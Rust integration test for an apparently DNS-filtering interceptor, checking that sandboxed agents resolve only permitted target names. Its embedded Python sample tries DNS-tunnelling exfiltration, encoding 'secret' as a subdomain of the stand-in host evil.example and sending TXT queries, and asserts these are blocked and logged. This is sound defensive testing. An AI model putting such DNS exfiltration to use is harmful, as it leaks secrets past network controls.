//! Agents that look names up themselves: answers lead to the target that the name is of, and no other name gets out.

use std::fs;
use std::io::{BufRead as _, BufReader};
use std::process::{Child, Command, Stdio};

use interceptor::testing::stage::{CARD, DATABASE, Stage};
use interceptor::testing::world::{FAR4, Place};

use super::scene::{bounded, recorded, said, stage, wait_for};

/// A name that only the resolver knows, and only from the second question for it on.
const NAME: &str = "orders.service.test";

/// A resolver on the far side that writes down what it is asked.
fn resolver(stage: &Stage) -> Child {
    let script = format!(
        r#"
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("{FAR4}", 53))
log = open("{log}", "a", buffering=1); print("ready", flush=True)
while True:
    q, client = s.recvfrom(2048)
    at, labels = 12, []
    while q[at]:
        labels.append(q[at+1:at+1+q[at]].decode("latin-1")); at += q[at] + 1
    name, kind = ".".join(labels), q[at+2]
    log.write(f"{{name}} {{kind}}\n")
    known = name == "{NAME}" and open("{switch}").read() == "on"
    head = q[:2] + (b"\x81\x80" if known else b"\x81\x83")
    answer = head + b"\0\1" + (b"\0\1" if known and kind == 1 else b"\0\0") + b"\0\0\0\0" + q[12:at+5]
    if known and kind == 1: answer += b"\xc0\x0c\0\1\0\1\0\0\0\1\0\4" + socket.inet_aton("{FAR4}")
    s.sendto(answer, client)
"#,
        log = stage.path("asked").display(),
        switch = stage.path("switch").display(),
    );
    let mut command = Command::new("/usr/bin/python3");
    command.args(["-c", &script]).stdout(Stdio::piped());
    let mut child = stage.world.spawn_in(Place::Far, command).unwrap();
    BufReader::new(child.stdout.take().unwrap()).read_line(&mut String::new()).unwrap();
    child
}

#[test]
fn an_agent_looks_up_the_names_of_targets_and_no_other() {
    let mut stage = stage();
    fs::write(stage.path("switch"), "off").unwrap();
    let mut resolver = resolver(&stage);
    stage.stop_daemon().unwrap();
    let path = stage.path("interceptor.toml");
    let configuration = fs::read_to_string(&path).unwrap();
    let configuration = configuration
        .replace("resolver = \"none\"", &format!("resolver = \"{FAR4}\""))
        .replace("hosts = [", &format!("hosts = [\"{NAME}:5432\", "))
        // The stage's own name is in /etc/hosts, with the same address.
        .replace(", \"orders-db.internal:5432\"", "");
    fs::write(&path, configuration).unwrap();
    stage.start_daemon().unwrap();
    // The daemon could not find it: only the agent's own question, answered now, leads there.
    fs::write(stage.path("switch"), "on").unwrap();
    let url = format!("postgres://billing:x@{NAME}:5432/{DATABASE}?sslmode=disable");
    let read = || {
        let mut psql = Command::new("psql");
        psql.args(["-X", &url, "-c", "SELECT name, card FROM customers WHERE id = 1"]);
        let output = stage.run_agent(bounded(&psql)).unwrap();
        output.status.success().then(|| said(&output))
    };
    let answer = wait_for("an answer", read);
    assert!(answer.contains("Ada Lovelace") && !answer.contains(CARD), "{answer}");

    let script = r#"
import socket
def fails(name):
    try: socket.getaddrinfo(name, 5432)
    except socket.gaierror as error: return error.errno
print([fails(name) for name in ["c2VjcmV0.evil.example", "orders.service.test.evil.example", "x" * 60 + ".evil.example"]])
# Past the library: other types, in odd spelling.
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.connect(("10.99.0.2", 53))
def ask(name, kind):
    q = b"\xbe\xef\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + bytes([0, 0, kind, 0, 1])
    s.send(q); a = s.recv(600); return a[3] & 15, a[7]
print(ask("ORDERS.sErViCe.test", 1), ask("orders.service.test", 16), ask("txt.evil.example", 16))
"#;
    let mut command = Command::new("/usr/bin/python3");
    command.args(["-c", script]);
    let output = stage.run_agent(bounded(&command)).unwrap();
    assert_eq!(said(&output), "[-2, -2, -2]\n(0, 1) (0, 0) (3, 0)\n");
    let asked = fs::read_to_string(stage.path("asked")).unwrap();
    assert!(asked.lines().all(|line| line == format!("{NAME} 1") || line == format!("{NAME} 28")), "{asked}");
    let on_record = || {
        let events = recorded(&stage);
        ["c2vjcmv0.evil.example", "not covered", "passed on"].iter().all(|word| events.contains(word)).then_some(())
    };
    wait_for("the questions on record", on_record);
    resolver.kill().unwrap();
    resolver.wait().unwrap();
}
